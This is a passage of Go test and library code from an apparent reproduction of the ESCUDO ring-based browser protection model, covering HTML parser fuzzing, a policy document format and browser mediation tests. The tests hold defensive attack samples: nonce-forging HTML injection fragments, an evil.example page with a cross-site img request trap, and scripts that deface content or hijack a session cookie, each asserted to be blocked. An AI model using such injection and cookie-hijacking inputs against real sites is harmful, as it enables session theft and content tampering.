	out := Render(doc)
	doc2 := Parse(out, LegacyOptions())
	if Render(doc2) != out {
		t.Errorf("render not stable:\n1: %s\n2: %s", out, Render(doc2))
	}
}

// Property: parsing never panics and always terminates on arbitrary
// input in both modes.
func TestParseNeverPanics(t *testing.T) {
	f := func(s string, escudo bool) (ok bool) {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		opts := LegacyOptions()
		if escudo {
			opts = escudoOpts()
		}
		Parse(s, opts)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

// Property: under ESCUDO parsing, the scoping rule holds everywhere —
// no node is more privileged than its parent.
func TestParseScopingInvariant(t *testing.T) {
	pieces := []string{
		`<div ring=0>`, `<div ring=1 nonce=3>`, `<div ring=2 r=1 w=1 x=1>`,
		`<div ring=3>`, `</div>`, `</div nonce=3>`, `</div nonce=999>`,
		`<p>`, `</p>`, `text`, `<img>`, `<div>`, `<b>`,
	}
	f := func(seed []uint8) bool {
		var b strings.Builder
		for _, s := range seed {
			b.WriteString(pieces[int(s)%len(pieces)])
		}
		doc := Parse(b.String(), escudoOpts())
		okAll := true
		Walk(doc, func(n *Node) bool {
			if n.Parent != nil && n.Ring < n.Parent.Ring {
				okAll = false
				return false
			}
			return true
		})
		return okAll
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

// Property: content injected inside a nonce-protected AC scope can
// never escape it — whatever the injection, every node it creates
// stays at ring ≥ the scope's ring.
func TestNonceForgingNeverEscapes(t *testing.T) {
	fragments := []string{
		`</div>`, `</div nonce=1>`, `</div nonce=2>`, `</div nonce=99999>`,
		`<div ring=0>`, `<div ring=0 nonce=5>`, `</DIV>`, `</div x>`,
		`<script>x</script>`, `</div nonce="7">`,
	}
	src := nonceTrapPage
	f := func(seed []uint8) bool {
		var inj strings.Builder
		for _, s := range seed {
			inj.WriteString(fragments[int(s)%len(fragments)])
		}
		inj.WriteString(`<b id=mark>m</b>`)
		page := strings.Replace(src, "INJECT", inj.String(), 1)
		doc := Parse(page, escudoOpts())
		mark := findByID(doc, "mark")
		if mark == nil {
			return true // the injection swallowed the marker; fine
		}
		return mark.Ring == 3
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// nonceTrapPage hosts untrusted content in a ring-3 scope protected by
// a nonce the attacker (by construction) does not know: the paper's
// threat model, since nonces are freshly drawn per response.
const nonceTrapPage = `<div ring=1 id=app nonce=314159>app` +
	`<div ring=3 r=2 w=2 x=2 nonce=271828>INJECT</div nonce=271828>` +
	`</div nonce=314159>`

func TestCountNodes(t *testing.T) {
	doc := Parse(`<p>a<b>c</b></p>`, LegacyOptions())
	// document + p + text + b + text = 5
	if got := CountNodes(doc); got != 5 {
		t.Errorf("CountNodes = %d, want 5", got)
	}
}

func TestRenderAttributes(t *testing.T) {
	doc := Parse(`<a href="/x?a=1&amp;b=2" title="say &quot;hi&quot;">t</a>`, LegacyOptions())
	out := Render(doc)
	doc2 := Parse(out, LegacyOptions())
	a := findTag(doc2, "a")
	if v, _ := a.Attr("href"); v != "/x?a=1&b=2" {
		t.Errorf("href after round trip = %q", v)
	}
	if v, _ := a.Attr("title"); v != `say "hi"` {
		t.Errorf("title after round trip = %q", v)
	}
}

func TestDeepNesting(t *testing.T) {
	var b strings.Builder
	const depth = 200
	for i := 0; i < depth; i++ {
		fmt.Fprintf(&b, `<div ring=%d>`, i%4)
	}
	b.WriteString("x")
	for i := 0; i < depth; i++ {
		b.WriteString(`</div>`)
	}
	doc := Parse(b.String(), escudoOpts())
	// The deepest text must be clamped to the max ring seen on its
	// ancestor path (monotone non-decreasing).
	var deepest *Node
	Walk(doc, func(n *Node) bool {
		if n.Type == TextNode {
			deepest = n
		}
		return true
	})
	if deepest == nil || deepest.Ring != 3 {
		t.Errorf("deepest ring = %v, want 3", deepest)
	}
}
