package html

import (
	"testing"

	"repro/internal/core"
)

// Fuzz targets. `go test` runs the seed corpus; `go test -fuzz` digs
// deeper. The invariants under fuzz are the package's security
// obligations: no panics, guaranteed termination, configuration
// stripping, and the scoping bound on fragment parses.

func FuzzTokenizer(f *testing.F) {
	seeds := []string{
		`<div ring=2 r=1 w=0 x=2 nonce=3847>x</div nonce=3847>`,
		`<script>if (a < b) { }</script>`,
		`<!-- comment --><!DOCTYPE html><p class="a">&amp;&#65;</p>`,
		`</ div><a href='x`, "<", "text<b", `<img src=x.png/>`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		z := NewTokenizer(s)
		for i := 0; i <= len(s)+8; i++ {
			if z.Next().Type == EOFToken {
				return
			}
		}
		t.Fatalf("tokenizer did not terminate on %q", s)
	})
}

func FuzzParseEscudo(f *testing.F) {
	seeds := []string{
		`<div ring=1 nonce=7><div ring=0></div nonce=7>`,
		`<div ring=3 r=2 w=2 x=2 nonce=1></div><div ring=0>x</div nonce=1>`,
		`<p><div ring=9 r=-1>x`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		doc := Parse(s, Options{Escudo: true, MaxRing: 3, BaseRing: 3})
		Walk(doc, func(n *Node) bool {
			if n.Ring < 0 || n.Ring > 3 {
				t.Errorf("ring %d out of range", n.Ring)
			}
			for _, a := range n.Attrs {
				if core.IsConfigAttr(a.Name) {
					t.Errorf("config attr %q leaked into the tree", a.Name)
				}
			}
			return true
		})
	})
}

func FuzzFragmentScopingBound(f *testing.F) {
	seeds := []string{
		`<div ring=0 id=x>boom</div>`,
		`</div><div ring=0>esc</div>`,
		`<div ring=1><div ring=0>deep</div></div>`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		kids := ParseFragment(s, Options{Escudo: true, MaxRing: 3}, 2, core.UniformACL(2))
		for _, k := range kids {
			Walk(k, func(n *Node) bool {
				if n.Ring < 2 {
					t.Errorf("fragment node at ring %d beat the bound 2 (input %q)", n.Ring, s)
				}
				return true
			})
		}
	})
}

func FuzzUnescape(f *testing.F) {
	for _, s := range []string{"&amp;", "&#65;", "&#x41;", "&bogus;", "&#;", "a&b"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		_ = Unescape(s) // must not panic
		// Escaping then unescaping is the identity.
		if got := Unescape(EscapeText(s)); got != s {
			t.Errorf("round trip %q -> %q", s, got)
		}
	})
}
