package policy

import (
	"reflect"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/origin"
)

func samplePolicy() Policy {
	p := New(origin.MustParse("http://forum.example"), 3)
	p.Cookies["phpbb2mysql_sid"] = Uniform(1)
	p.Cookies["phpbb2mysql_data"] = Assignment{Ring: 1, Read: 1, Write: 1, Use: 1}
	p.APIs["xmlhttprequest"] = 1
	p.Delegate(origin.MustParse("http://widget.example"), 2)
	p.Delegate(origin.MustParse("http://ads.example"), 3)
	return p
}

// TestJSONRoundTripLossless pins the acceptance criterion:
// Parse(Marshal(p)) == p.
func TestJSONRoundTripLossless(t *testing.T) {
	p := samplePolicy()
	data, err := p.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	q, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(p, q) {
		t.Fatalf("round trip diverges:\n in:  %+v\n out: %+v", p, q)
	}
	if !p.Equal(q) {
		t.Fatal("Equal disagrees with DeepEqual")
	}
	// Serialization is deterministic: marshal twice, same bytes.
	again, err := q.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if string(data) != string(again) {
		t.Fatalf("marshal not deterministic:\n %s\n %s", data, again)
	}
}

// TestValidateRejects covers the rejection matrix: out-of-range rings,
// bad origins, unknown delegation origins, duplicates.
func TestValidateRejects(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(*Policy)
		want   string
	}{
		{"bad-version", func(p *Policy) { p.Version = 2 }, "version"},
		{"bad-origin", func(p *Policy) { p.Origin = "not a url" }, "origin"},
		{"maxring-out-of-range", func(p *Policy) { p.MaxRing = core.MaxSupportedRing + 1 }, "max_ring"},
		{"cookie-ring-high", func(p *Policy) { p.Cookies["c"] = Uniform(4) }, "cookie"},
		{"cookie-acl-high", func(p *Policy) { p.Cookies["c"] = Assignment{Ring: 1, Read: 9, Write: 1, Use: 1} }, "cookie"},
		{"cookie-ring-negative", func(p *Policy) { p.Cookies["c"] = Assignment{Ring: -1} }, "cookie"},
		{"empty-cookie-name", func(p *Policy) { p.Cookies[" "] = Uniform(1) }, "cookie"},
		{"api-ring-high", func(p *Policy) { p.APIs["dom"] = 7 }, "api"},
		{"api-uppercase", func(p *Policy) { p.APIs["XMLHttpRequest"] = 1 }, "lowercase"},
		{"delegation-bad-guest", func(p *Policy) {
			p.Delegations = append(p.Delegations, Delegation{Guest: "::nope::", Floor: 2})
		}, "guest"},
		{"delegation-self", func(p *Policy) {
			p.Delegations = append(p.Delegations, Delegation{Guest: "http://forum.example", Floor: 2})
		}, "own origin"},
		{"delegation-floor-high", func(p *Policy) {
			p.Delegations = append(p.Delegations, Delegation{Guest: "http://x.example", Floor: 9})
		}, "floor"},
		{"delegation-duplicate", func(p *Policy) {
			p.Delegations = append(p.Delegations,
				Delegation{Guest: "http://x.example", Floor: 2},
				Delegation{Guest: "http://x.example:80", Floor: 3})
		}, "duplicate"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			p := samplePolicy()
			tc.mutate(&p)
			err := p.Validate()
			if err == nil {
				t.Fatal("Validate accepted a bad document")
			}
			if !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %q does not mention %q", err, tc.want)
			}
			// Parse must reject the same document on the wire.
			if data, merr := p.Marshal(); merr == nil {
				if _, perr := Parse(data); perr == nil {
					t.Fatal("Parse accepted a bad document")
				}
			}
		})
	}
	if err := samplePolicy().Validate(); err != nil {
		t.Fatalf("valid sample rejected: %v", err)
	}
}

// TestPageConfigRoundTrip converts document → header config → document.
func TestPageConfigRoundTrip(t *testing.T) {
	p := samplePolicy()
	p.Delegations = nil // not representable in headers
	cfg := p.PageConfig()
	if got, acl := cfg.CookieRing("phpbb2mysql_sid"); got != 1 || acl != core.UniformACL(1) {
		t.Fatalf("cookie ring = %d acl = %v", got, acl)
	}
	if got := cfg.APIRing("XMLHttpRequest"); got != 1 {
		t.Fatalf("api ring = %d", got)
	}
	back := FromPageConfig(origin.MustParse("http://forum.example"), cfg)
	if !p.Equal(back) {
		t.Fatalf("page-config round trip diverges:\n in:  %+v\n out: %+v", p, back)
	}
}

// TestDelegationPolicy compiles the document into the runtime policy.
func TestDelegationPolicy(t *testing.T) {
	p := samplePolicy()
	dp, err := p.DelegationPolicy()
	if err != nil {
		t.Fatal(err)
	}
	host := origin.MustParse("http://forum.example")
	if floor, ok := dp.DelegationFloor(host, origin.MustParse("http://widget.example")); !ok || floor != 2 {
		t.Fatalf("widget floor = %d, %v", floor, ok)
	}
	if _, ok := dp.DelegationFloor(host, origin.MustParse("http://rogue.example")); ok {
		t.Fatal("undeclared guest has a delegation")
	}
}

// TestDelegateNarrowsNotWidens mirrors mashup.Policy semantics.
func TestDelegateNarrowsNotWidens(t *testing.T) {
	p := New(origin.MustParse("http://portal.example"), 3)
	guest := origin.MustParse("http://widget.example")
	p.Delegate(guest, 2)
	p.Delegate(guest, 1) // widening attempt: ignored
	if p.Delegations[0].Floor != 2 {
		t.Fatalf("floor widened to %d", p.Delegations[0].Floor)
	}
	p.Delegate(guest, 3) // narrowing: applied
	if p.Delegations[0].Floor != 3 {
		t.Fatalf("floor = %d after narrowing", p.Delegations[0].Floor)
	}
	if len(p.Delegations) != 1 {
		t.Fatalf("duplicate rows: %+v", p.Delegations)
	}
}

// TestSummary smoke-checks the human-readable rendering.
func TestSummary(t *testing.T) {
	s := samplePolicy().Summary()
	for _, want := range []string{"forum.example", "phpbb2mysql_sid", "xmlhttprequest", "widget.example", "floor=2"} {
		if !strings.Contains(s, want) {
			t.Errorf("summary missing %q:\n%s", want, s)
		}
	}
}

// TestParseInitializesOmittedSections pins that a minimal wire
// document parses back with usable (non-nil) maps, matching New.
func TestParseInitializesOmittedSections(t *testing.T) {
	p, err := Parse([]byte(`{"version":1,"origin":"http://bare.example","max_ring":3}`))
	if err != nil {
		t.Fatal(err)
	}
	if p.Cookies == nil || p.APIs == nil {
		t.Fatalf("omitted sections must come back as empty maps: %+v", p)
	}
	p.Cookies["sid"] = Uniform(1) // must not panic
	p.APIs["dom"] = 1
	minimal := New(origin.MustParse("http://bare.example"), 3)
	data, err := minimal.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	back, err := Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(minimal, back) {
		t.Fatalf("empty-section round trip diverges:\n in:  %#v\n out: %#v", minimal, back)
	}
}
