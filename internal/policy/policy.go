// Package policy defines the unified ESCUDO policy document: one
// versioned, serializable description of everything a page
// configuration can say — the ring count, cookie and native-API
// assignments (§4.1), and §7 mashup delegations — for one origin.
//
// ESCUDO's model (§4) is one reference monitor fed by one page
// configuration, but the repo had grown three disjoint policy shapes
// (core.PageConfig from X-Escudo headers, mashup.Policy for
// delegations, and sifgen's compiler output). Policy is the single
// document the three converge on: it validates, round-trips through
// JSON losslessly, converts to and from core.PageConfig, compiles
// into a mashup delegation policy, and travels the wire — the httpd
// gateway serves it per-origin and exposes /policyz for inspection.
// Enforcement never moves server-side: a policy document is data; the
// monitors consuming it live in the browser.
package policy

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"

	"repro/internal/core"
	"repro/internal/mashup"
	"repro/internal/origin"
)

// Version is the current document version. Parse rejects documents
// from other versions, so incompatible future shapes fail loudly
// instead of being misread.
const Version = 1

// Assignment labels one object (a cookie, by name): its ring and ACL
// ceilings, in the AC-tag attribute vocabulary (r, w, x).
type Assignment struct {
	// Ring is the object's protection ring.
	Ring core.Ring `json:"ring"`
	// Read, Write, Use are the ACL ceilings — the outermost ring
	// allowed to perform each operation.
	Read  core.Ring `json:"r"`
	Write core.Ring `json:"w"`
	Use   core.Ring `json:"x"`
}

// ACL converts the assignment's ceilings to a core.ACL.
func (a Assignment) ACL() core.ACL {
	return core.ACL{Read: a.Read, Write: a.Write, Use: a.Use}
}

// Uniform builds an assignment whose ACL equals its ring — the common
// case in the paper's case-study tables.
func Uniform(r core.Ring) Assignment {
	return Assignment{Ring: r, Read: r, Write: r, Use: r}
}

// Delegation grants a guest origin a floored presence inside the
// policy's origin (§7). The host is implicit: the document's Origin.
type Delegation struct {
	// Guest is the delegated origin in URL form ("http://widget.example").
	Guest string `json:"guest"`
	// Floor is the most privileged ring a guest principal can act as.
	Floor core.Ring `json:"floor"`
}

// Policy is the complete ESCUDO policy document of one origin.
type Policy struct {
	// Version is the document version (must be Version).
	Version int `json:"version"`
	// Origin is the publishing origin in URL form ("http://forum.example").
	Origin string `json:"origin"`
	// MaxRing is the page's least privileged ring N.
	MaxRing core.Ring `json:"max_ring"`
	// Cookies maps cookie names to their assignments.
	Cookies map[string]Assignment `json:"cookies,omitempty"`
	// APIs maps native-API names (lowercase) to their rings.
	APIs map[string]core.Ring `json:"apis,omitempty"`
	// Delegations lists the origin's §7 mashup delegations, sorted by
	// guest for deterministic serialization.
	Delegations []Delegation `json:"delegations,omitempty"`
}

// New returns an empty policy document for the origin.
func New(o origin.Origin, maxRing core.Ring) Policy {
	return Policy{
		Version: Version,
		Origin:  o.String(),
		MaxRing: maxRing,
		Cookies: map[string]Assignment{},
		APIs:    map[string]core.Ring{},
	}
}

// Delegate appends a delegation, keeping the list sorted by guest.
// Re-declaring a guest keeps the least privileged (largest) floor,
// mirroring mashup.Policy.Delegate: narrowing is allowed, silent
// widening is not.
func (p *Policy) Delegate(guest origin.Origin, floor core.Ring) {
	g := guest.String()
	for i, d := range p.Delegations {
		if d.Guest == g {
			if floor > d.Floor {
				p.Delegations[i].Floor = floor
			}
			return
		}
	}
	p.Delegations = append(p.Delegations, Delegation{Guest: g, Floor: floor})
	sort.Slice(p.Delegations, func(a, b int) bool { return p.Delegations[a].Guest < p.Delegations[b].Guest })
}

// ringInRange reports 0 ≤ r ≤ max.
func ringInRange(r, max core.Ring) bool {
	return r >= core.RingKernel && r <= max
}

// Validate checks the document end to end: version, parsable origin,
// ring count within the supported bound, every assignment and ACL
// ceiling within [0, MaxRing], and every delegation naming a
// parsable, distinct guest origin with an in-range floor. A policy
// that fails Validate must not be mounted or enforced.
func (p Policy) Validate() error {
	if p.Version != Version {
		return fmt.Errorf("policy: unsupported version %d (want %d)", p.Version, Version)
	}
	self, err := origin.Parse(p.Origin)
	if err != nil {
		return fmt.Errorf("policy: bad origin %q: %w", p.Origin, err)
	}
	if !ringInRange(p.MaxRing, core.MaxSupportedRing) {
		return fmt.Errorf("policy: max_ring %d outside [0,%d]", p.MaxRing, core.MaxSupportedRing)
	}
	for name, a := range p.Cookies {
		if strings.TrimSpace(name) == "" {
			return fmt.Errorf("policy: cookie with empty name")
		}
		for what, r := range map[string]core.Ring{"ring": a.Ring, "r": a.Read, "w": a.Write, "x": a.Use} {
			if !ringInRange(r, p.MaxRing) {
				return fmt.Errorf("policy: cookie %q %s=%d outside [0,%d]", name, what, r, p.MaxRing)
			}
		}
	}
	for name, r := range p.APIs {
		if strings.TrimSpace(name) == "" {
			return fmt.Errorf("policy: api with empty name")
		}
		if name != strings.ToLower(name) {
			return fmt.Errorf("policy: api %q must be lowercase", name)
		}
		if !ringInRange(r, p.MaxRing) {
			return fmt.Errorf("policy: api %q ring=%d outside [0,%d]", name, r, p.MaxRing)
		}
	}
	seen := map[string]bool{}
	for _, d := range p.Delegations {
		guest, err := origin.Parse(d.Guest)
		if err != nil {
			return fmt.Errorf("policy: delegation guest %q: %w", d.Guest, err)
		}
		if guest.SameOrigin(self) {
			return fmt.Errorf("policy: delegation guest %q is the policy's own origin", d.Guest)
		}
		if seen[guest.String()] {
			return fmt.Errorf("policy: duplicate delegation for guest %q", d.Guest)
		}
		seen[guest.String()] = true
		if !ringInRange(d.Floor, p.MaxRing) {
			return fmt.Errorf("policy: delegation %q floor=%d outside [0,%d]", d.Guest, d.Floor, p.MaxRing)
		}
	}
	return nil
}

// Marshal serializes the document as JSON. Maps serialize with sorted
// keys and delegations are kept sorted, so equal documents marshal to
// equal bytes.
func (p Policy) Marshal() ([]byte, error) {
	return json.Marshal(p)
}

// MarshalIndent is Marshal with human-readable indentation (the
// /policyz and inspection format).
func (p Policy) MarshalIndent() ([]byte, error) {
	return json.MarshalIndent(p, "", "  ")
}

// Parse deserializes and validates a document: Parse(Marshal(p))
// reproduces p exactly for any valid p. Omitted cookie/API sections
// come back as empty maps (as New builds them), so parsed documents
// are safely mutable.
func Parse(data []byte) (Policy, error) {
	var p Policy
	if err := json.Unmarshal(data, &p); err != nil {
		return Policy{}, fmt.Errorf("policy: parsing: %w", err)
	}
	if p.Cookies == nil {
		p.Cookies = map[string]Assignment{}
	}
	if p.APIs == nil {
		p.APIs = map[string]core.Ring{}
	}
	if err := p.Validate(); err != nil {
		return Policy{}, err
	}
	return p, nil
}

// Equal reports whether two documents say the same thing (map and
// slice contents compared structurally).
func (p Policy) Equal(q Policy) bool {
	if p.Version != q.Version || p.Origin != q.Origin || p.MaxRing != q.MaxRing {
		return false
	}
	if len(p.Cookies) != len(q.Cookies) || len(p.APIs) != len(q.APIs) || len(p.Delegations) != len(q.Delegations) {
		return false
	}
	for k, v := range p.Cookies {
		if q.Cookies[k] != v {
			return false
		}
	}
	for k, v := range p.APIs {
		if q.APIs[k] != v {
			return false
		}
	}
	for i, d := range p.Delegations {
		if q.Delegations[i] != d {
			return false
		}
	}
	return true
}

// FromPageConfig lifts a header-carried core.PageConfig into a policy
// document for the origin (delegations empty: the X-Escudo headers
// cannot express them — that is precisely why this document exists).
func FromPageConfig(o origin.Origin, cfg core.PageConfig) Policy {
	p := New(o, cfg.MaxRing)
	for name, cc := range cfg.Cookies {
		p.Cookies[name] = Assignment{Ring: cc.Ring, Read: cc.ACL.Read, Write: cc.ACL.Write, Use: cc.ACL.Use}
	}
	for name, ac := range cfg.APIs {
		p.APIs[strings.ToLower(name)] = ac.Ring
	}
	return p
}

// PageConfig lowers the document to the header-carried configuration
// the browser's parser consumes (delegations are not representable
// there; use DelegationPolicy for them).
func (p Policy) PageConfig() core.PageConfig {
	cfg := core.NewPageConfig(p.MaxRing)
	for name, a := range p.Cookies {
		cfg.Cookies[name] = core.CookieConfig{Name: name, Ring: a.Ring, ACL: a.ACL()}
	}
	for name, r := range p.APIs {
		cfg.APIs[name] = core.APIConfig{Name: name, Ring: r}
	}
	return cfg
}

// DelegationPolicy compiles the document's delegations into the
// runtime mashup policy consumed by core.WithDelegations and
// mashup.Monitor. The document must be valid.
func (p Policy) DelegationPolicy() (*mashup.Policy, error) {
	host, err := origin.Parse(p.Origin)
	if err != nil {
		return nil, fmt.Errorf("policy: bad origin %q: %w", p.Origin, err)
	}
	dp := mashup.NewPolicy()
	for _, d := range p.Delegations {
		guest, err := origin.Parse(d.Guest)
		if err != nil {
			return nil, fmt.Errorf("policy: delegation guest %q: %w", d.Guest, err)
		}
		dp.Delegate(mashup.Delegation{Host: host, Guest: guest, Floor: d.Floor})
	}
	return dp, nil
}

// Summary renders a human-readable table of the document — the
// inspection/adoption view.
func (p Policy) Summary() string {
	var b strings.Builder
	fmt.Fprintf(&b, "policy v%d for %s (N=%d)\n", p.Version, p.Origin, p.MaxRing)
	names := make([]string, 0, len(p.Cookies))
	for n := range p.Cookies {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		a := p.Cookies[n]
		fmt.Fprintf(&b, "  cookie %-24s ring=%d acl{r=%d w=%d x=%d}\n", n, a.Ring, a.Read, a.Write, a.Use)
	}
	apiNames := make([]string, 0, len(p.APIs))
	for n := range p.APIs {
		apiNames = append(apiNames, n)
	}
	sort.Strings(apiNames)
	for _, n := range apiNames {
		fmt.Fprintf(&b, "  api    %-24s ring=%d\n", n, p.APIs[n])
	}
	for _, d := range p.Delegations {
		fmt.Fprintf(&b, "  delegation %s floor=%d\n", d.Guest, d.Floor)
	}
	return b.String()
}
