package browser

import (
	"errors"
	"strings"
	"testing"

	"repro/internal/core"
	"repro/internal/dom"
	"repro/internal/html"
	"repro/internal/origin"
	"repro/internal/web"
)

var (
	site     = origin.MustParse("http://app.example")
	evilSite = origin.MustParse("http://evil.example")
)

// testPage is a configured ESCUDO page in the paper's shape: ring-1
// application content, ring-3 user content, a ring-1 session cookie,
// and the XHR API in ring 1.
const testPage = `<html><body>` +
	`<div ring=1 r=1 w=1 x=1 id=app><p id=appmsg>welcome</p></div>` +
	`<div ring=3 r=2 w=2 x=2 id=user>user content</div>` +
	`</body></html>`

// newTestNetwork builds a network with the app origin serving
// testPage with full ESCUDO configuration, plus endpoints used by the
// cookie/XHR tests.
func newTestNetwork() *web.Network {
	net := web.NewNetwork()
	net.Register(site, web.HandlerFunc(func(req *web.Request) *web.Response {
		switch req.Path() {
		case "/":
			resp := web.HTML(testPage)
			resp.Header.Set(core.HeaderMaxRing, "3")
			resp.Header.Add("Set-Cookie", "sid=secret1; Path=/")
			resp.Header.Add(core.HeaderCookie, "sid; ring=1; r=1; w=1; x=1")
			resp.Header.Add(core.HeaderAPI, "xmlhttprequest; ring=1")
			return resp
		case "/api":
			return web.HTML("api-ok")
		case "/legacy":
			return web.HTML(`<div id=x ring=2>legacy</div>`)
		default:
			return web.NotFound()
		}
	}))
	net.Register(evilSite, web.HandlerFunc(func(req *web.Request) *web.Response {
		return web.HTML(`<html><body><img id=trap src="http://app.example/api"></body></html>`)
	}))
	return net
}

func TestNavigatePipeline(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	if p.Origin != site {
		t.Errorf("origin = %v", p.Origin)
	}
	if p.Config.MaxRing != 3 {
		t.Errorf("MaxRing = %d", p.Config.MaxRing)
	}
	if app := p.Doc.ByID("app"); app == nil || app.Ring != 1 {
		t.Errorf("app div mislabeled: %+v", app)
	}
	if user := p.Doc.ByID("user"); user == nil || user.Ring != 3 {
		t.Errorf("user div mislabeled: %+v", user)
	}
	// The cookie landed with its configured ring.
	c, ok := b.Jar().Get(site, "sid")
	if !ok || c.Ring != 1 {
		t.Errorf("sid cookie = %+v, %v", c, ok)
	}
	// Rendering happened.
	if p.Layout == nil || p.Layout.Words == 0 {
		t.Error("layout missing")
	}
	if !strings.Contains(p.RenderText(), "welcome") {
		t.Errorf("render = %q", p.RenderText())
	}
	// History recorded (browser state).
	if b.History().Len() != 1 || !b.History().Visited(site.URL("/")) {
		t.Error("history not recorded")
	}
}

func TestUnlabeledContentFailSafe(t *testing.T) {
	// On a configured page, content outside AC tags defaults to the
	// least privileged ring with the zero ACL (§4.3).
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	body := p.Doc.ByTag("body")[0]
	if body.Ring != 3 {
		t.Errorf("unlabeled body ring = %d, want 3", body.Ring)
	}
	if body.ACL != (core.ACL{}) {
		t.Errorf("unlabeled body ACL = %v, want zero", body.ACL)
	}
}

func TestScriptMediationByRing(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Ring-1 script reads and writes the app region.
	err = p.RunScriptRing(1, "app-script", `
var el = document.getElementById("appmsg");
el.innerText = "updated";`)
	if err != nil {
		t.Fatalf("ring-1 script: %v", err)
	}
	// Ring-3 script cannot touch the app region (ring rule).
	err = p.RunScriptRing(3, "user-script", `
var el = document.getElementById("appmsg");
el.innerText = "defaced";`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("ring-3 script err = %v, want denial", err)
	}
	if got := html.InnerText(p.Doc.ByID("appmsg")); got != "updated" {
		t.Errorf("app message = %q, must keep ring-1 update", got)
	}
}

func TestDocumentCookieMediation(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Ring-1 script sees the ring-1 session cookie.
	console := b.Console
	if err := p.RunScriptRing(1, "reader1", `log("c1=" + document.cookie);`); err != nil {
		t.Fatal(err)
	}
	// Ring-3 script sees nothing: the cookie is invisible, not an
	// error (read simply filters).
	if err := p.RunScriptRing(3, "reader3", `log("c3=" + document.cookie);`); err != nil {
		t.Fatal(err)
	}
	lines := console.Lines()
	if len(lines) != 2 || lines[0] != "c1=sid=secret1" || lines[1] != "c3=" {
		t.Errorf("lines = %v", lines)
	}
}

func TestDocumentCookieWrite(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// Ring-3 script cannot overwrite the ring-1 session cookie.
	err = p.RunScriptRing(3, "w3", `document.cookie = "sid=hijacked";`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("err = %v, want denial", err)
	}
	if c, _ := b.Jar().Get(site, "sid"); c.Value != "secret1" {
		t.Errorf("sid overwritten to %q", c.Value)
	}
	// Ring-1 may update it.
	if err := p.RunScriptRing(1, "w1", `document.cookie = "sid=rotated";`); err != nil {
		t.Fatal(err)
	}
	if c, _ := b.Jar().Get(site, "sid"); c.Value != "rotated" {
		t.Errorf("sid = %q, want rotated", c.Value)
	}
}

func TestXHRRingGate(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	// XHR is configured in ring 1: ring-1 scripts may use it.
	err = p.RunScriptRing(1, "x1", `
var x = new XMLHttpRequest();
x.open("GET", "/api");
x.send();
log("status=" + x.status + " body=" + x.responseText);`)
	if err != nil {
		t.Fatal(err)
	}
	lines := b.Console.Lines()
	if len(lines) != 1 || lines[0] != "status=200 body=api-ok" {
		t.Errorf("lines = %v", lines)
	}
	// Ring-3 scripts may not (ring rule on the API object).
	err = p.RunScriptRing(3, "x3", `
var x = new XMLHttpRequest();
x.open("GET", "/api");`)
	var denied *dom.DeniedError
	if !errors.As(err, &denied) {
		t.Fatalf("ring-3 xhr err = %v, want denial", err)
	}
	if denied.Decision.Rule != core.RuleRing {
		t.Errorf("rule = %v", denied.Decision.Rule)
	}
}

func TestXHRSameOriginOnly(t *testing.T) {
	b := New(newTestNetwork(), Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	err = p.RunScriptRing(1, "x", `
var x = new XMLHttpRequest();
x.open("GET", "http://evil.example/");
x.send();`)
	if err == nil || !strings.Contains(err.Error(), "cross-origin") {
		t.Errorf("err = %v, want cross-origin block", err)
	}
}

func TestXHRCookieAttachment(t *testing.T) {
	// A ring-1 XHR carries the ring-1 session cookie (use allowed);
	// the request log proves it server-side.
	net := newTestNetwork()
	b := New(net, Options{Mode: ModeEscudo})
	p, err := b.Navigate(site.URL("/"))
	if err != nil {
		t.Fatal(err)
	}
	net.ResetLog()
	err = p.RunScriptRing(1, "x", `
var x = new XMLHttpRequest();
x.open("GET", "/api");
x.send();`)
	if err != nil {
		t.Fatal(err)
	}
	entries := net.FindRequests(site, func(e web.LogEntry) bool { return e.Path == "/api" })
	if len(entries) != 1 || !entries[0].HasCookie("sid") {
		t.Errorf("entries = %+v", entries)
	}
}

func TestHistoryRingZero(t *testing.T) {
